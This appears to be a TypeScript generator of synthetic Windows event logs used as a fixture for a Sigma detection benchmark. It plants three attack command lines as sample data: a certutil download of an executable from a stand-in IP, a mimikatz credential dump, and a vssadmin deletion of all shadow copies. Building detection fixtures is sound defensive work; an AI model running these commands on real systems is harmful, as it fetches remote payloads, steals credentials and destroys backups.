/**
 * Generated Windows events for the Sigma bench and fixture (JSON Lines,
 * seeded): Sysmon 1/3/11/13, Security 4624/4625/4688, PowerShell 4104, and a
 * few planted attacks (certutil download, mimikatz, vssadmin).
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { seededRng } from '../src/engine/cluster/random';

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const IMAGES = ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\explorer.exe', 'C:\\Program Files\\Mozilla Firefox\\firefox.exe', 'C:\\Windows\\System32\\conhost.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'C:\\Windows\\System32\\taskhostw.exe', 'C:\\Windows\\System32\\RuntimeBroker.exe', 'C:\\Program Files\\Git\\cmd\\git.exe'];
const PLANTED = [
  { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe', OriginalFileName: 'CertUtil.exe' },
  { Image: 'C:\\Users\\Public\\mimikatz.exe', CommandLine: 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', OriginalFileName: 'mimikatz.exe' },
  { Image: 'C:\\Windows\\System32\\vssadmin.exe', CommandLine: 'vssadmin.exe delete shadows /all /quiet', OriginalFileName: 'VSSADMIN.EXE' },
];

export function generate(file: string, n: number, seed = 42): void {
  const r = seededRng(seed);
  const pick = <T>(xs: T[]) => xs[Math.floor(r() * xs.length)];
  const out = fs.openSync(file, 'w');
  const t0 = Date.parse('2024-03-01T00:00:00Z');
  let buf: string[] = [];
  for (let i = 0; i < n; i++) {
    const time = new Date(t0 + i * 2000).toISOString();
    const host = `ws${Math.floor(r() * 200)}`;
    const user = `CORP\\user${Math.floor(r() * 500)}`;
    const x = r();
    let e: Record<string, unknown>;
    if (x < 0.3) {
      const img = pick(IMAGES);
      const planted = r() < 0.0005 ? pick(PLANTED) : undefined;
      e = { EventID: 1, Channel: SYSMON, Image: planted?.Image ?? img, CommandLine: planted?.CommandLine ?? `"${img}" --task ${Math.floor(r() * 1000)}`, OriginalFileName: planted?.OriginalFileName ?? path.win32.basename(img), ParentImage: pick(IMAGES), ParentCommandLine: pick(IMAGES), User: user, IntegrityLevel: 'Medium', Hashes: `SHA256=${Math.floor(r() * 1e15).toString(16)}`, CurrentDirectory: 'C:\\Windows\\System32\\' };
    } else if (x < 0.45) e = { EventID: 3, Channel: SYSMON, Image: pick(IMAGES), DestinationIp: `10.0.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}`, DestinationPort: pick([443, 80, 445, 53, 3389]), Initiated: 'true', User: user };
    else if (x < 0.55) e = { EventID: 11, Channel: SYSMON, Image: pick(IMAGES), TargetFilename: `C:\\Users\\user${Math.floor(r() * 500)}\\AppData\\Local\\Temp\\tmp${Math.floor(r() * 1e6)}.tmp` };
    else if (x < 0.65) e = { EventID: 13, Channel: SYSMON, EventType: 'SetValue', Image: pick(IMAGES), TargetObject: `HKU\\S-1-5-21\\Software\\Vendor\\Key${Math.floor(r() * 1000)}`, Details: 'DWORD (0x00000001)' };
    else if (x < 0.8) e = { EventID: 4624, Channel: 'Security', TargetUserName: `user${Math.floor(r() * 500)}`, LogonType: pick([2, 3, 10]), IpAddress: `10.1.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}`, SubjectUserName: '-' };
    else if (x < 0.85) e = { EventID: 4625, Channel: 'Security', TargetUserName: `user${Math.floor(r() * 500)}`, LogonType: 3, IpAddress: `203.0.113.${Math.floor(r() * 255)}`, Status: '0xc000006d' };
    else if (x < 0.95) {
      const img = pick(IMAGES);
      e = { EventID: 4688, Channel: 'Security', NewProcessName: img, CommandLine: `"${img}"`, ParentProcessName: pick(IMAGES), SubjectUserName: `user${Math.floor(r() * 500)}` };
    } else e = { EventID: 4104, Channel: 'Microsoft-Windows-PowerShell/Operational', ScriptBlockText: `Get-ChildItem -Path C:\\Users\\user${Math.floor(r() * 500)} | Select-Object Name`, Path: '' };
    buf.push(JSON.stringify({ UtcTime: time, Computer: host, ...e }));
    if (buf.length >= 10000) {
      fs.writeSync(out, buf.join('\n') + '\n');
      buf = [];
    }
  }
  if (buf.length) fs.writeSync(out, buf.join('\n') + '\n');
  fs.closeSync(out);
}
